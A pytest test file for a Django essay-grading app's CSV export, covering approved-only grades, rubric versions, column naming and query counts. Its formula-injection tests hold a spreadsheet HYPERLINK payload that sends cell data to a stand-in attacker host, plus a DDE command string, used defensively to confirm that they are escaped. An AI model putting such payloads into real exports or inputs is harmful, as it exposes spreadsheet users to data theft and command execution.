"""Grade export: approved grades only, per criterion and total, UTF-8 with BOM."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from grading import exports, rubrics, selectors, services
from grading.models import Answer, AnswerStatus

from .conftest import GOOD, make_user, submit


def test_csv_has_bom_chinese_headers_and_only_approved_grades(
    client,
    graded_essays,
    teacher,
    student,
    assignment,
):
    services.grade_approve(answer=graded_essays[0], actor=teacher)
    url = reverse("grading:export", args=[assignment.pk])
    client.force_login(student)
    assert client.get(url).status_code == 404
    client.force_login(teacher)
    response = client.get(url)
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    header, data = rows[0], rows[1:]
    assert "Q1 内容切题" in header and header[-1] == "total" and len(data) == 5
    by_user = {row[0]: row for row in data}
    # The enrolled student who never handed in is listed, as missing.
    assert by_user[student.username][header.index("status")] == "missing"
    approved = by_user[graded_essays[0].submission.student.username]
    assert approved[-1] == "75" and approved[header.index("Q1 内容切题")] == "15"
    pending = by_user[graded_essays[1].submission.student.username]
    assert (
        pending[-1] == "" and pending[header.index("Q1 total")] == ""
    )  # a proposal is never exported


def _export(client, teacher, assignment):
    client.force_login(teacher)
    response = client.get(reverse("grading:export", args=[assignment.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    return rows[0], {row[0]: row for row in rows[1:]}


# A roster name that Excel would turn into a live link sending the sheet's cells away.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "value, cell",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=2+5", "'=2+5"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("李明", "李明"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),  # numbers stay numbers, negative ones included
        (-2.5, -2.5),
        (0, 0),
    ],
)
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value, cell):
    assert exports.csv_cell(value) == cell


def test_export_neutralises_formulas_in_names_numbers_and_header(
    client, fake_llm, grade_now, teacher, assignment, essay_question, rubric
):
    rubric.criteria.filter(title="书写规范").update(title="@SUM(1+1)")
    attacker = make_user("mallory", name=HYPERLINK, student_number="=2+5")
    answer = submit(assignment, attacker, {essay_question: GOOD}).answers.get()
    grade_now([answer])
    services.grade_approve(answer=answer, actor=teacher)
    header, rows = _export(client, teacher, assignment)
    row = rows["mallory"]
    assert row[1] == "'" + HYPERLINK and row[2] == "'=2+5"
    assert "Q1 @SUM(1+1)" in header  # the header cell starts with "Q1", harmless
    assert row[header.index("Q1 内容切题")].isdigit() and row[-1].isdigit()
    for cell in header + [c for r in rows.values() for c in r]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_shared_writer_neutralises_header_and_text_cells_but_not_numbers():
    # The grade table's headers start with "Q<n>"; the writer must not rely on that.
    out = io.StringIO()
    exports.csv_write(out, header=["=cmd|' /C calc'!A0", "total"], rows=[["-3", -3]])
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    assert rows == [["'=cmd|' /C calc'!A0", "total"], ["'-3", "-3"]]


def test_export_keeps_each_grade_with_the_criteria_of_its_rubric_version(
    client, graded_essays, teacher, assignment, essay_question, rubric
):
    old = graded_essays[0]
    services.grade_approve(answer=old, actor=teacher)  # approved under version 1
    v2 = rubrics.criterion_update(
        criterion=rubric.criteria.get(title="内容切题"), actor=teacher, title="内容与立意"
    ).rubric
    assert v2.version == 2
    newer = submit(assignment, make_user("late", name="晚交"), {essay_question: GOOD}).answers.get()
    Answer.objects.filter(pk=newer.pk).update(status=AnswerStatus.NEEDS_MANUAL)
    services.grade_approve(
        answer=newer,
        actor=teacher,
        scores={c.pk: 10 + c.order for c in v2.criteria.all()},
    )
    header, rows = _export(client, teacher, assignment)
    # Both titles have a column, side by side (same place in the rubric, newest first).
    first, second = header.index("Q1 内容与立意"), header.index("Q1 内容切题")
    assert second == first + 1 and header.index("Q1 结构清晰") == second + 1
    v1_row, v2_row = rows[old.submission.student.username], rows["late"]
    total = header.index("Q1 total")
    assert v1_row[second] == "15" and v1_row[first] == ""
    assert v2_row[first] == "11" and v2_row[second] == ""
    assert v1_row[header.index("Q1 结构清晰")] != "" and v2_row[header.index("Q1 结构清晰")] == "12"
    criteria = [i for i, title in enumerate(header) if title.startswith("Q1 ") and i != total]
    for row in (v1_row, v2_row):
        parts = [int(row[i]) for i in criteria if row[i]]
        assert sum(parts) == int(row[total]) == int(row[-1])


def test_export_of_an_approved_answer_without_a_grade_leaves_its_cells_empty(
    client, graded_essays, teacher, assignment
):
    services.grade_approve(answer=graded_essays[0], actor=teacher)
    # Old data (or an admin edit) can say "approved" with no grade behind it.
    Answer.objects.filter(pk=graded_essays[1].pk).update(status=AnswerStatus.APPROVED)
    header, rows = _export(client, teacher, assignment)
    orphan = rows[graded_essays[1].submission.student.username]
    assert orphan[header.index("Q1 total")] == "" and orphan[-1] == ""
    assert all(orphan[i] == "" for i, title in enumerate(header) if title.startswith("Q1 "))
    assert rows[graded_essays[0].submission.student.username][-1] == "75"


def test_two_criteria_of_one_title_get_a_column_each(
    client, graded_essays, teacher, assignment, rubric
):
    rubric.criteria.filter(title="结构清晰").update(title="内容切题")
    services.grade_approve(answer=graded_essays[0], actor=teacher)
    header, rows = _export(client, teacher, assignment)
    row = rows[graded_essays[0].submission.student.username]
    first, second = header.index("Q1 内容切题"), header.index("Q1 内容切题 (2)")
    assert second == first + 1 and row[first] != "" and row[second] != ""


def test_export_reads_a_fixed_number_of_queries(graded_essays, teacher, assignment, essay_question):
    services.grades_bulk_approve(
        answer_ids=[a.pk for a in graded_essays],
        actor=teacher,
        include_flagged=[a.pk for a in graded_essays],
    )
    with CaptureQueriesContext(connection) as few:
        selectors.assignment_grade_table(assignment=assignment)
    for i in range(3):
        answer = submit(assignment, make_user(f"more{i}"), {essay_question: GOOD}).answers.get()
        Answer.objects.filter(pk=answer.pk).update(status=AnswerStatus.NEEDS_MANUAL)
        services.grade_approve(
            answer=answer,
            actor=teacher,
            scores={c.pk: 5 for c in essay_question.rubric.criteria.all()},
        )
    with CaptureQueriesContext(connection) as many:
        _, rows = selectors.assignment_grade_table(assignment=assignment)
    assert len(rows) == 7 and len(many.captured_queries) == len(few.captured_queries) <= 6
